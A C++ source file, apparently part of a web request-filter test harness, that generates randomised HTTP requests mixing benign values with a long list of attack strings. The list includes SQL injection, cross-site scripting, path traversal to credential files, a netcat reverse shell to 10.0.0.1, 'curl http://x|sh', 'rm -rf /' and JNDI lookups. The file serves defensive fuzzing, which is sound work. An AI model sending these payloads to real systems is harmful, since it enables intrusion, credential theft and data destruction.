#include "requests.h"

namespace bulwark::reference {
namespace {

constexpr const char* kPlain[] = {"hello",
                                  "42",
                                  "Ada Lovelace",
                                  "ada@example.org",
                                  "2024-05-01",
                                  "the quick brown fox",
                                  "https://shop.example/items/17",
                                  "O'Brien & Sons",
                                  "3.14159",
                                  "true",
                                  "blue, size 42",
                                  "Straße 7, Köln",
                                  "user_name-1",
                                  "aGVsbG8gd29ybGQ=",
                                  "C# and C++",
                                  "50% off!",
                                  "a=b",
                                  "price <= 10",
                                  "don't panic",
                                  "v1.2.3-rc.1",
                                  "/home/docs/readme.txt",
                                  "SELECT your seat",
                                  "x",
                                  "",
                                  "0",
                                  "-1",
                                  "foo;bar",
                                  "(555) 123-4567",
                                  "{\"a\":1}",
                                  "<b>bold</b>",
                                  "1+1=2",
                                  "admin",
                                  "null",
                                  "日本語",
                                  "8f14e45fceea167a5a36dedd4bea2543"};

constexpr const char* kAttacks[] = {"1' or '1'='1",
                                    "1 UNION SELECT username,password FROM users-- -",
                                    "'; DROP TABLE users;--",
                                    "1 and sleep(5)#",
                                    "admin'--",
                                    "1;exec master..xp_cmdshell 'dir'",
                                    "1 or 1=1",
                                    "benchmark(5000000,md5(1))",
                                    "' and extractvalue(1,concat(0x7e,version()))-- ",
                                    "1 having 1=1--",
                                    "waitfor delay '0:0:5'",
                                    "1/*!50000union*/ select 1",
                                    "information_schema.tables",
                                    "' || (select 1)||'",
                                    "concat(char(97),char(98))",
                                    "1 order by 100",
                                    "load_file('/etc/passwd')",
                                    "0x3c736372697074",
                                    "\" or \"\"=\"",
                                    "into outfile '/tmp/x'",
                                    "<script>alert(1)</script>",
                                    "<img src=x onerror=alert(1)>",
                                    "\"><svg/onload=alert(1)>",
                                    "javascript:alert(document.cookie)",
                                    "<iframe src=javascript:alert(1)>",
                                    "' onmouseover='alert(1)",
                                    "<body onload=alert(1)>",
                                    "<a href=\"vbscript:x\">",
                                    "expression(alert(1))",
                                    "<embed src=x>",
                                    "<object data=x>",
                                    "document.write(1)",
                                    "eval(String.fromCharCode(97))",
                                    "<meta http-equiv=refresh>",
                                    "{{constructor.constructor('x')()}}",
                                    "<!--[if IE]>",
                                    "<style>@import 'x'</style>",
                                    "<isindex action=j:1 type=image>",
                                    "window['alert'](1)",
                                    "../../../../etc/passwd",
                                    "..\\..\\windows\\win.ini",
                                    "/etc/shadow",
                                    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                                    "....//....//",
                                    "file:///etc/passwd",
                                    "/proc/self/environ",
                                    ".htaccess",
                                    ".git/config",
                                    "wp-config.php",
                                    "http://127.0.0.1/x.php?",
                                    "https://10.0.0.1/shell.txt",
                                    "ftp://x.example/a",
                                    "data:text/html,x",
                                    "http://[::1]/",
                                    "gopher://x:70/_",
                                    "; cat /etc/passwd",
                                    "| id",
                                    "`whoami`",
                                    "$(uname -a)",
                                    "&& wget http://x/y",
                                    "; nc -e /bin/sh 10.0.0.1 4444",
                                    "() { :;}; echo x",
                                    "powershell -enc abc",
                                    "cmd.exe /c dir",
                                    "ping -c 1 127.0.0.1",
                                    "/bin/bash -i",
                                    "c'a't /e?c/p*",
                                    "rm -rf /",
                                    "curl http://x|sh",
                                    "%COMSPEC%",
                                    "$IFS$9",
                                    "ifconfig",
                                    "perl -e 'x'",
                                    "<?php phpinfo(); ?>",
                                    "php://filter/convert.base64-encode/resource=index",
                                    "phar://x",
                                    "O:8:\"stdClass\":0:{}",
                                    "base64_decode('x')",
                                    "$_GET['x']",
                                    "system('id')",
                                    "assert($x)",
                                    "<?= `id` ?>",
                                    "shell_exec(",
                                    "call_user_func",
                                    "$GLOBALS",
                                    "allow_url_include=1",
                                    "auto_prepend_file=php://input",
                                    "require('child_process').exec('id')",
                                    "_$$ND_FUNC$$_",
                                    "process.env",
                                    "this.constructor.constructor('return process')()",
                                    "${jndi:ldap://x/a}",
                                    "#{7*7}",
                                    "<%= 7*7 %>",
                                    "{{7*7}}",
                                    "java.lang.Runtime",
                                    "rO0ABXNy",
                                    "com.opensymphony.xwork2",
                                    "#cmd='id',#x",
                                    "${@print(md5(1))}",
                                    "org.apache.commons.collections.functors",
                                    "ysoserial",
                                    "\r\nSet-Cookie: x=1",
                                    "%0d%0aLocation: http://x",
                                    "x\nContent-Type: text/html",
                                    "HTTP/1.1 200 OK",
                                    "GET / HTTP/1.0",
                                    "(|(uid=*))",
                                    "*)(uid=*))(|(uid=*",
                                    "<!ENTITY x SYSTEM \"file:///x\">",
                                    "<!--#exec cmd=\"ls\"-->",
                                    "document.cookie='sessionid=1'",
                                    "JSESSIONID=abc",
                                    "sqlmap/1.7",
                                    "nikto",
                                    "${${::-j}ndi:x}",
                                    "\x00",
                                    "%00",
                                    "\xc0\xae\xc0\xae/",
                                    "%u003cscript%u003e",
                                    "&lt;script&gt;",
                                    "\\x3cscript\\x3e",
                                    "%25%32%37",
                                    "%c0%27",
                                    "\xef\xbc\x9cscript\xef\xbc\x9e",
                                    "+ADw-script+AD4-",
                                    "a%zzb",
                                    "xp_cmdshell",
                                    "@@version",
                                    "; -- -",
                                    "procedure analyse()",
                                    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>"};

constexpr const char* kNames[] = {"q",    "id",      "name",       "page",     "user", "comment",   "email",      "file",    "url",
                                  "path", "sort",    "lang",       "token",    "data", "PHPSESSID", "jsessionid", "a[b]",    "x.y",
                                  "cmd",  "_method", "utm_source", "password", "a b",  "<x>",       "order'",     "callback"};
constexpr const char* kPaths[] = {"/",           "/index.html", "/products/17",      "/api/orders", "/search",
                                  "/login",      "/admin/",     "/a/../b",           "/x.php",      "/download.bak",
                                  "/.git/HEAD",  "/a%20b",      "/cgi-bin/test.cgi", "//double",    "/x;y=1",
                                  "/web.config", "/user's",     "/%2e%2e/x",         "/upload.sql"};
constexpr const char* kMethods[] = {"GET",    "GET",  "GET",     "POST",  "POST",  "POST",    "PUT",
                                    "DELETE", "HEAD", "OPTIONS", "TRACE", "PATCH", "PROPFIND"};
constexpr const char* kAgents[] = {"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                                   "curl/8.5.0",
                                   "python-requests/2.31",
                                   "sqlmap/1.7.2#stable",
                                   "Nikto/2.5.0",
                                   "masscan/1.3",
                                   "",
                                   "Googlebot/2.1"};
constexpr const char* kTypes[] = {"application/x-www-form-urlencoded",
                                  "application/json",
                                  "multipart/form-data; boundary=XYZ",
                                  "text/xml",
                                  "application/xml; charset=utf-8",
                                  "text/plain",
                                  "application/x-www-form-urlencoded; charset=utf-7",
                                  "application/octet-stream",
                                  "application/json; charset=utf-8"};
constexpr const char* kDamage[] = {"%", "'", "\"", "<", ">", "&", ";",    "/*",  "*/",  "--",   "#",  "\\", "\n", " ", "%00",
                                   "+", "(", ")",  "=", "`", "|", "\xff", "%27", "%3C", "0x41", "//", "..", "$",  "{", "}"};

constexpr char kHex[] = "0123456789ABCDEF";

std::string encoded(const std::string& text, bool everything) {
  std::string out;
  for (const char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    const bool plain = !everything && (std::isalnum(byte) != 0 || c == '-' || c == '_' || c == '.' || c == '~');
    if (plain)
      out.push_back(c);
    else if (c == ' ' && !everything)
      out.push_back('+');
    else
      out.append({'%', kHex[byte >> 4], kHex[byte & 15]});
  }
  return out;
}

std::string json_text(const std::string& text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out.push_back('\\');
    if (static_cast<unsigned char>(c) < 0x20)
      out += "\\u0020";
    else
      out.push_back(c);
  }
  return out + "\"";
}

/// Without what would end a header or a request line, and without the white space around it, which no server passes on.
std::string one_line(std::string text) {
  std::erase_if(text, [](char c) { return c == '\r' || c == '\n' || c == '\0'; });
  while (!text.empty() && text.back() == ' ') text.pop_back();
  while (!text.empty() && text.front() == ' ') text.erase(0, 1);
  return text;
}

}  // namespace

std::string Request::text() const {
  std::string out = method + " " + target + "\n";
  for (const auto& [name, value] : headers) out += name + ": " + value + "\n";
  return out + "\n" + body;
}

std::string RequestGenerator::mutated(std::string text) {
  for (std::size_t left = below(3); left > 0 && !text.empty(); --left) {
    const std::size_t at = below(text.size() + 1);
    switch (below(5)) {
      case 0: text.insert(at, pick(kDamage)); break;
      case 1: text.erase(at, 1 + below(3)); break;
      case 2:
        if (at < text.size()) text[at] = static_cast<char>(std::toupper(static_cast<unsigned char>(text[at])));
        break;
      case 3: text.insert(at, pick(kAttacks)); break;
      default: text.insert(at, text.substr(at, below(6)));
    }
  }
  return text;
}

std::string RequestGenerator::value() {
  if (one_in(2)) return pick(kPlain);
  return one_in(3) ? pick(kAttacks) : mutated(pick(kAttacks));
}

std::string RequestGenerator::name() { return one_in(12) ? value() : pick(kNames); }

std::string RequestGenerator::query() {
  std::string out;
  for (std::size_t left = below(4); left > 0; --left) {
    if (!out.empty()) out.push_back('&');
    const bool everything = one_in(6);
    out += encoded(name(), everything);
    if (!one_in(10)) out += "=" + (one_in(12) ? value() : encoded(value(), everything));
  }
  return out;
}

std::string RequestGenerator::json(int depth) {
  if (depth == 0 || one_in(3)) return one_in(4) ? std::to_string(below(1000)) : json_text(value());
  const bool array = one_in(3);
  std::string out = array ? "[" : "{";
  for (std::size_t i = 0, count = below(4); i < count; ++i) {
    if (i > 0) out.push_back(',');
    if (!array) out += json_text(name()) + ":";
    out += json(depth - 1);
  }
  return out + (array ? "]" : "}");
}

std::string RequestGenerator::xml() {
  const auto text = [this] {
    std::string out;
    for (const char c : value()) out += c == '<' ? "&lt;" : c == '&' ? "&amp;" : c == '"' ? "&quot;" : std::string(1, c);
    return out;
  };
  return "<?xml version=\"1.0\"?><r a=\"" + text() + "\"><i>" + text() + "</i><j>" + text() + "</j></r>";
}

std::string RequestGenerator::multipart() {
  std::string out;
  for (std::size_t left = 1 + below(3); left > 0; --left) {
    out += "--XYZ\r\nContent-Disposition: form-data; name=\"" + pick(kNames) + "\"";
    if (one_in(3)) out += "; filename=\"" + (one_in(2) ? std::string("photo.jpg") : one_line(pick(kAttacks))) + "\"";
    out += "\r\n";
    if (one_in(3)) out += "Content-Type: text/plain\r\n";
    // The reference loses line ends within a value, so values here have none.
    out += "\r\n" + one_line(value()) + "\r\n";
  }
  return out + "--XYZ--\r\n";
}

void RequestGenerator::add_body(Request& request) {
  const std::string type = pick(kTypes);
  if (type.starts_with("application/json"))
    request.body = json(3);
  else if (type.starts_with("multipart"))
    request.body = multipart();
  else if (type.find("xml") != std::string::npos)
    request.body = xml();
  else if (type.starts_with("application/x-www"))
    request.body = query();
  else
    request.body = value();
  if (one_in(15)) request.body = mutated(request.body);
  if (!one_in(20)) request.headers.emplace_back("Content-Type", type);
  if (!one_in(20)) request.headers.emplace_back("Content-Length", std::to_string(request.body.size()));
}

Request RequestGenerator::next() {
  Request request;
  request.method = pick(kMethods);
  request.target = pick(kPaths);
  if (one_in(10)) request.target += encoded(value(), false);
  if (const std::string arguments = query(); !arguments.empty()) request.target += "?" + one_line(arguments);
  std::erase(request.target, ' ');
  if (!one_in(20)) request.headers.emplace_back("Host", one_in(10) ? "127.0.0.1" : "shop.example");
  if (!one_in(20)) request.headers.emplace_back("User-Agent", one_in(8) ? one_line(value()) : pick(kAgents));
  if (!one_in(20)) request.headers.emplace_back("Accept", one_in(10) ? one_line(value()) : "text/html,*/*;q=0.8");
  if (one_in(3))
    request.headers.emplace_back("Cookie", "session=" + encoded(value(), false) + "; " + pick(kNames) + "=" + one_line(value()));
  if (one_in(5)) request.headers.emplace_back("Referer", "https://shop.example/" + one_line(value()));
  if (one_in(10)) request.headers.emplace_back("X-" + pick(kNames), one_line(value()));
  if (one_in(20)) request.headers.emplace_back("Range", "bytes=0-5,5-6,7-8,9-10,11-12,13-14");
  if (request.method != "GET" && request.method != "HEAD" && request.method != "TRACE" && !one_in(6)) add_body(request);
  return request;
}

}  // namespace bulwark::reference
